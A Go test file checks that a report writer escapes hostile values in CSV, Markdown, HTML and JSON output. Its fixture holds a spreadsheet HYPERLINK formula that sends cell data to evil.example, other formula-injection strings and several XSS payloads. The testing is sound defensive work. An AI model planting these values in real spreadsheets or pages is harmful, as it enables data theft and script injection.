package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode/utf8"
)

// hostileReport holds values that try to break out of every format.
func hostileReport() Report {
	loc := time.FixedZone("CET", 3600)
	return Report{
		Title:       "Report <b>for</b> | gym",
		GeneratedAt: time.Date(2025, 11, 1, 10, 0, 0, 0, loc),
		Timezone:    "Europe/Ljubljana", Today: "2025-11-01", RunID: 7,
		Summary: map[string]int{"extend": 2, "missing": 1},
		Guard:   `12 revocations <img src=x onerror=alert(1)> | exceed 10`,
		Targets: []TargetLine{{Name: "entrance|east", System: "hikvision", Accounts: 3, Error: `HTTP 401 <a href="http://evil.example">login</a>`}},
		Rows: []Row{
			{Kind: "extend", Email: "+38640123456@example.si", Name: `=HYPERLINK("http://evil.example/?d="&A1,"klik")`, MemberID: "-1+1",
				Target: "entrance", Account: "@SUM(A1:A9)", AccountName: "\tTab", SourceEnd: "2025-12-01",
				CurrentEnd: "2025-11-01T23:59:59", DesiredEnd: "2025-12-01T23:59:59", Status: "auto",
				Reason: "he said \"stop\",\nthen left\r\nagain", DaysDiff: 30, Auto: true},
			{Kind: "extend", Email: "ana@example.si", Name: `Ana | <script>alert(1)</script> *bold* [x](javascript:alert(1)) a\|b`,
				AccountName: "</td><td>injected", Reason: "\rcarriage", Status: "held", DaysDiff: -5, CurrentEnd: "2025-12-01T23:59:59", DesiredEnd: "2025-11-26T23:59:59"},
			{Kind: `x" onmouseover="alert(1)`, Email: "＝fullwidth@example.si", Name: "Žiga Čeh", Reason: "ok"},
		},
	}
}

func write(t *testing.T, r Report, f Format) string {
	t.Helper()
	var b bytes.Buffer
	if err := Write(&b, r, f); err != nil {
		t.Fatalf("write %s: %v", f, err)
	}
	return b.String()
}

func TestCSVCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example","klik")`, `'=HYPERLINK("http://evil.example","klik")`},
		{"+38640123456@example.si", "'+38640123456@example.si"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tcmd", "'\tcmd"},
		{"\rcmd", "'\rcmd"},
		{"\ncmd", "'\ncmd"},
		{"＝1+1", "'＝1+1"},
		{"Žiga Čeh", "Žiga Čeh"},
		{"ana@example.si", "ana@example.si"},
		{"2025-11-01T23:59:59", "2025-11-01T23:59:59"},
		{"a=b", "a=b"},
		{"", ""},
	}
	for _, tt := range tests {
		if got := cell(tt.in); got != tt.want {
			t.Errorf("cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestCSVRoundTripAndInjection(t *testing.T) {
	out := write(t, hostileReport(), CSV)
	if !strings.HasPrefix(out, bom) {
		t.Fatalf("CSV does not start with a UTF-8 BOM: %q", out[:min(10, len(out))])
	}
	if !strings.HasPrefix(out, bom+strings.Join(csvHeader(), ",")+"\r\n") {
		t.Errorf("header line is not the documented header ended by CRLF: %q", out[:min(200, len(out))])
	}
	// In CRLF mode encoding/csv drops a lone CR; the apostrophe stays.
	if !strings.Contains(out, ",\"'carriage\"\r\n") {
		t.Error("a cell starting with CR is not neutralised")
	}
	rd := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, bom)))
	recs, err := rd.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse (RFC 4180): %v", err)
	}
	if len(recs) != 4 {
		t.Fatalf("got %d records, want header + 3", len(recs))
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	get := func(row int, name string) string { return recs[row][col[name]] }
	tests := []struct {
		row        int
		name, want string
	}{
		{1, "name", `'=HYPERLINK("http://evil.example/?d="&A1,"klik")`},
		{1, "email", "'+38640123456@example.si"},
		{1, "member_id", "'-1+1"},
		{1, "account", "'@SUM(A1:A9)"},
		{1, "account_name", "'\tTab"},
		// encoding/csv reads a quoted CRLF as LF.
		{1, "reason", "he said \"stop\",\nthen left\nagain"},
		{1, "days_diff", "30"},
		{1, "auto", "true"},
		{2, "days_diff", "-5"}, // a number of ours: bare, so it sorts as a number
		{2, "account_name", "</td><td>injected"},
		{3, "email", "'＝fullwidth@example.si"},
		{3, "name", "Žiga Čeh"},
	}
	for _, tt := range tests {
		if got := get(tt.row, tt.name); got != tt.want {
			t.Errorf("row %d %s = %q, want %q", tt.row, tt.name, got, tt.want)
		}
	}
}

func TestMarkdownEscaping(t *testing.T) {
	out := write(t, hostileReport(), Markdown)
	// The page structure uses none of < > [ ]: every one comes from a value
	// and must be escaped, so a renderer shows it as text.
	for _, ch := range []byte("<>[]") {
		if unescaped(out, ch) {
			t.Errorf("Markdown holds an unescaped %q", ch)
		}
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(line, "|") && (unescaped(line, '*') || unescaped(line, '`') || unescaped(line, '&')) {
			t.Errorf("table row holds unescaped emphasis, code or entity: %s", line)
		}
	}
	for _, want := range []string{`Ana \| \<script\>alert(1)\</script\> \*bold\* \[x\](javascript:alert(1)) a\\\|b`, `\<b\>for\</b\>`, "he said \"stop\", then left again |"} {
		if !strings.Contains(out, want) {
			t.Errorf("Markdown lacks %q\n%s", want, out)
		}
	}
	// Every table row has as many cell separators as its header: no value
	// split a row or added a column, and no line break ended one early.
	var header int
	for _, line := range strings.Split(out, "\n") {
		if !strings.HasPrefix(line, "|") {
			header = 0
			continue
		}
		n := separators(line)
		if header == 0 {
			header = n
			continue
		}
		if n != header {
			t.Errorf("row has %d separators, header %d: %s", n, header, line)
		}
	}
}

// unescaped reports whether ch occurs without a backslash before it.
func unescaped(s string, ch byte) bool {
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\\':
			i++
		case ch:
			return true
		}
	}
	return false
}

// separators counts the unescaped pipes of a Markdown table line.
func separators(line string) int {
	n := 0
	for i := 0; i < len(line); i++ {
		switch line[i] {
		case '\\':
			i++
		case '|':
			n++
		}
	}
	return n
}

func TestHTMLEscaping(t *testing.T) {
	out := write(t, hostileReport(), HTML)
	for _, bad := range []string{"<script", "<img", "<b>", `<a href`, `onmouseover="`, "</td><td>injected"} {
		if strings.Contains(out, bad) {
			t.Errorf("HTML holds unescaped %q", bad)
		}
	}
	for _, want := range []string{
		"&lt;script&gt;alert(1)&lt;/script&gt;",
		"&lt;/td&gt;&lt;td&gt;injected",
		`class="badge k-xonmouseoveralert1"`,
		"Guard tripped:",
		"entrance|east",
		"Žiga Čeh",
		`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'">`,
	} {
		if !strings.Contains(out, want) {
			t.Errorf("HTML lacks %q", want)
		}
	}
	// Self-contained: no tag loads or runs anything, and the style sheet
	// imports nothing. (Escaped values may still contain "src=" as text.)
	for _, tag := range regexp.MustCompile(`<[a-zA-Z][^>]*>`).FindAllString(out, -1) {
		for _, attr := range []string{"src=", "href=", "action=", "<link", "<script", "<iframe", "<object", "<embed", " on"} {
			if strings.Contains(strings.ToLower(tag), attr) {
				t.Errorf("HTML tag %s has %q: the page must be self-contained", tag, attr)
			}
		}
	}
	style := out[strings.Index(out, "<style>"):strings.Index(out, "</style>")]
	for _, bad := range []string{"url(", "@import"} {
		if strings.Contains(style, bad) {
			t.Errorf("style sheet uses %s", bad)
		}
	}
}

func TestJSONKeepsValuesAndFields(t *testing.T) {
	r := hostileReport()
	out := write(t, r, JSON)
	var got struct {
		Version int `json:"version"`
		Guard   struct {
			Tripped bool   `json:"tripped"`
			Reason  string `json:"reason"`
		} `json:"guard"`
		RunID       int64  `json:"run_id"`
		GeneratedAt string `json:"generated_at"`
		Rows        []Row  `json:"rows"`
	}
	if err := json.Unmarshal([]byte(out), &got); err != nil {
		t.Fatal(err)
	}
	if got.Version != Version || !got.Guard.Tripped || got.Guard.Reason != r.Guard || got.RunID != 7 || got.GeneratedAt != "2025-11-01T10:00:00+01:00" {
		t.Errorf("header = %+v", got)
	}
	if len(got.Rows) != 3 || got.Rows[0] != r.Rows[0] || got.Rows[1] != r.Rows[1] {
		t.Errorf("rows do not round-trip:\n%+v\n%+v", got.Rows, r.Rows)
	}
	// Every field is present even when empty, so scripts can rely on keys.
	var generic struct {
		Rows []map[string]any `json:"rows"`
	}
	if err := json.Unmarshal([]byte(out), &generic); err != nil {
		t.Fatal(err)
	}
	for _, k := range csvHeader() {
		if _, ok := generic.Rows[2][k]; !ok {
			t.Errorf("JSON row lacks key %q", k)
		}
	}
}

func TestEmptyReport(t *testing.T) {
	for _, f := range Formats() {
		out := write(t, Report{}, f)
		if out == "" {
			t.Errorf("%s: empty output for an empty report", f)
		}
	}
	var v map[string]any
	if err := json.Unmarshal([]byte(write(t, Report{}, JSON)), &v); err != nil {
		t.Fatal(err)
	}
	if rows, ok := v["rows"].([]any); !ok || len(rows) != 0 {
		t.Errorf("rows = %#v, want []", v["rows"])
	}
	if v["generated_at"] != nil {
		t.Errorf("generated_at = %v, want null for an unknown time", v["generated_at"])
	}
}

func TestInvalidUTF8BecomesValid(t *testing.T) {
	r := hostileReport()
	r.Rows[2].Name = "Bad \xff\xfe name"
	r.Targets[0].Name = "t\xc3"
	for _, f := range Formats() {
		out := write(t, r, f)
		if !utf8.ValidString(out) {
			t.Errorf("%s output is not valid UTF-8", f)
		}
		if f != JSON && !strings.Contains(out, "Bad \uFFFD") {
			t.Errorf("%s lost the name with invalid bytes", f)
		}
	}
	if r.Rows[2].Name != "Bad \xff\xfe name" {
		t.Error("Write modified the caller's report")
	}
}

func TestDaysText(t *testing.T) {
	tests := []struct {
		row  Row
		want string
	}{
		{Row{DaysDiff: 16, CurrentEnd: "a", DesiredEnd: "b"}, "+16"},
		{Row{DaysDiff: -72, CurrentEnd: "a", DesiredEnd: "b"}, "-72"},
		{Row{DaysDiff: 0, CurrentEnd: "a", DesiredEnd: "a"}, "0"},
		{Row{DaysDiff: 0, DesiredEnd: "b"}, ""},
		{Row{DaysDiff: 0, CurrentEnd: PermanentEnd, DesiredEnd: "b"}, ""},
	}
	for _, tt := range tests {
		if got := daysText(tt.row); got != tt.want {
			t.Errorf("daysText(%+v) = %q, want %q", tt.row, got, tt.want)
		}
	}
}
